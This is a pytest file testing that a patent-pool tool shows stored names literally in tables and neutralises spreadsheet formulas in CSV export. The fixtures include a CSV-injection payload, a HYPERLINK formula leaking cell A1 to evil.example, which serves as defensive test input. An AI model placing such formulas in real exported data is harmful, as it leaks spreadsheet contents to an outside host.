"""Stored text as output: tables show it literally (no rich markup from a member's name), and CSV cells that
a spreadsheet would run as a formula are neutralised (`render.safe_cell`, OWASP), numbers left alone."""

from __future__ import annotations

import csv
import io
import random
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from conftest import Pool

from ledger.entry import ZERO_HASH, Entry
from patentpool import render, views

MARKUP_NAMES = [
    "[link=https://evil.example]Aurora Optics[/link]",
    "x [/] y",
    "[bold red]Beacon",
    "Cobalt [/link]",
]
FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "+1+1", "-2+3", "@SUM(A1:A9)", "=1"]


@pytest.fixture
def pool(tmp_path: Path, pool_factory: Any) -> Pool:
    made: Pool = pool_factory(f"sqlite:///{tmp_path / 'pool.db'}")
    rows = [f"M{i},{name},both" for i, name in enumerate(MARKUP_NAMES)]
    rows += [f'F{i},"{name.replace(chr(34), chr(34) * 2)}",both' for i, name in enumerate(FORMULAS)]
    made.run("member", "import", str(made.write("members.csv", "id,name,role\n" + "\n".join(rows) + "\n")))
    return made


def test_tables_show_stored_text_literally(pool: Pool) -> None:
    out = pool.run("member", "list", "-f", "table").stdout
    for name in MARKUP_NAMES:
        assert name in out, name
    log = pool.run("log", "-f", "table").stdout  # long summaries fold: look for the markup itself
    for piece in ("[link=https://evil.example]", "x [/] y", "[bold red]Beacon", "[/link]"):
        assert piece in log, piece


def test_a_coloured_table_makes_no_hyperlink_of_a_name() -> None:
    rows = [{"name": name} for name in MARKUP_NAMES]
    out = render.to_table(rows, ["name"], "Members [/]", color=True)
    assert "\x1b]8;" not in out  # the OSC 8 escape a terminal shows as a clickable link
    assert "[link=https://evil.example]Aurora Optics[/link]" in out and "Members [/]" in out


@pytest.mark.parametrize(
    ("given", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-", "'-"),
        ("-12.50", "-12.50"),
        ("+5", "+5"),
        ("-0.5", "-0.5"),
        ("-.5", "-.5"),
        ("1=1", "1=1"),
        ("+6VKOl4sCzVA1MqHy3iYRqIBgR4OVbfIaUwTbkGRfhs=", "+6VKOl4sCzVA1MqHy3iYRqIBgR4OVbfIaUwTbkGRfhs="),
        ("+6VKOl4sCzVA1MqHy3iYRqIBgR4OVbfIaUwTbkGRfh=", "'+6VKOl4sCzVA1MqHy3iYRqIBgR4OVbfIaUwTbkGRfh="),
        ("=HYPERLINK(A1)" + "A" * 30 + "=", "'=HYPERLINK(A1)" + "A" * 30 + "="),
        ("Aurora", "Aurora"),
        ("", ""),
    ],
)
def test_safe_cell(given: str, written: str) -> None:
    assert render.safe_cell(given) == written


def test_safe_cell_leaves_what_is_not_text_alone() -> None:
    for value in (Decimal("-12.50"), -5, 3.0, None, True):
        assert render.safe_cell(value) is value


def test_csv_output_of_the_cli_neutralises_formulas(pool: Pool) -> None:
    rows = list(csv.DictReader(io.StringIO(pool.run("member", "list", "-f", "csv").stdout)))
    names = {row["id"]: row["name"] for row in rows}
    for i, formula in enumerate(FORMULAS):
        assert names[f"F{i}"] == "'" + formula
    for i, name in enumerate(MARKUP_NAMES):
        assert names[f"M{i}"] == name
    assert all(row["seq"].isdigit() for row in rows)  # numbers untouched
    log = list(csv.DictReader(io.StringIO(pool.run("log", "-f", "csv").stdout)))
    assert all(not row["summary"].startswith(render.FORMULA_LEAD) for row in log)


def test_csv_fuzz_round_trips_and_never_leads_with_a_formula() -> None:
    rng = random.Random(17)
    alphabet = "=+-@\t\r\n\",;'[]/ 0123456789.eE-aZ\u00e9\u202e\x00\x1b"
    cells = ["".join(rng.choice(alphabet) for _ in range(rng.randint(0, 12))) for _ in range(3000)]
    cells += ["-1", "+1.5", "-", "=", "@", "0", "-0.00"]
    rows = [{"a": cells[i], "b": cells[i + 1]} for i in range(0, len(cells) - 1, 2)]
    text = render.to_csv(rows, ["a", "b"])
    back = list(csv.reader(io.StringIO(text, newline="")))
    assert back[0] == ["a", "b"] and len(back) == len(rows) + 1
    for row, (a, b) in zip(rows, back[1:], strict=True):
        for given, got in ((row["a"], a), (row["b"], b)):
            assert got in (given, "'" + given)
            if got.startswith(render.FORMULA_LEAD):
                assert render.safe_cell(got) == got  # only a plain number may lead with a sign
                assert got.lstrip("+-").replace(".", "", 1).isdigit(), got


def test_log_spells_booleans_as_json_does() -> None:
    entry = Entry(
        seq=9,
        time="2025-01-01T00:00:00.000000Z",
        kind="license.direct",
        author="pool.example/test+0011aabb",
        prev=ZERO_HASH,
        body={"licensee": "L1", "exclusive": True, "withdrawn": False, "units": 3},
        sig="",
    )
    summary = views.log_row(entry)["summary"]
    assert "exclusive=true" in summary and "withdrawn=false" in summary and "units=3" in summary
    assert "True" not in summary and "False" not in summary
